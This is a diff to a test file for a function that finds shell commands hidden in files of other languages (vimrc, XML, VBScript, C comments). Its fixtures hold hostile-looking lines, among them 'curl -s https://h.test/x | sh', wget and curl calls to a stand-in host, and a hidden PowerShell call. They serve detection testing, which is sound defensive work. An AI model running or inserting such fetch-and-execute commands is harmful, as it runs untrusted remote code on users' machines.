@@ -16,10 +16,8 @@ describe('commands in files of other languages', () => {
       'c',
       'curl -s https://h.test/x | sh',
     ],
-    ['a.el', '(shell-command "wget -q https://h.test/x")\n', 'text', 'wget -q https://h.test/x'],
-    ['a.tcl', 'exec {curl -s https://h.test/{a}}\n', 'text', 'curl -s https://h.test/{a}'],
     ['.vimrc', 'silent !curl -s https://h.test/x\n', 'vim', 'curl -s https://h.test/x'],
-    ['a.bas', 'Shell "powershell.exe -c \\"x\\"", vbHide\n', 'text', 'powershell -c "x"'],
+    ['a.vbs', 'Shell "powershell.exe -c \\"x\\"", vbHide\n', 'vbscript', 'powershell -c "x"'],
     ['w.xml', `<option value="-c 'curl -s https://h.test/x'"/>\n`, 'xml', 'curl -s https://h.test/x'],
   ])('%s', (path, text, language, expected) => {
     expect(commands(path, text, language)).toContain(expected);
@@ -27,9 +25,7 @@ describe('commands in files of other languages', () => {
 
   it.each([
     ['a remark', 'a.c', '// curl -s https://h.test/x | sh\n', 'c'],
-    ['a document', 'notes.txt', 'curl -s https://h.test/x\n', 'text'],
-    ['a licence', 'NOTICE', 'curl -s https://h.test/x\n', 'text'],
-    ['words', 'a.lisp', '(print "ssh is a protocol")\n', 'text'],
+    ['words', 'a.c', 'puts("ssh is a protocol");\n', 'c'],
     ['a format with a reader', 'a.plist', '<string>curl -s https://h.test/x</string>\n', 'xml'],
   ])('none in %s', (_, path, text, language) => {
     expect(commands(path, text, language)).toEqual([]);
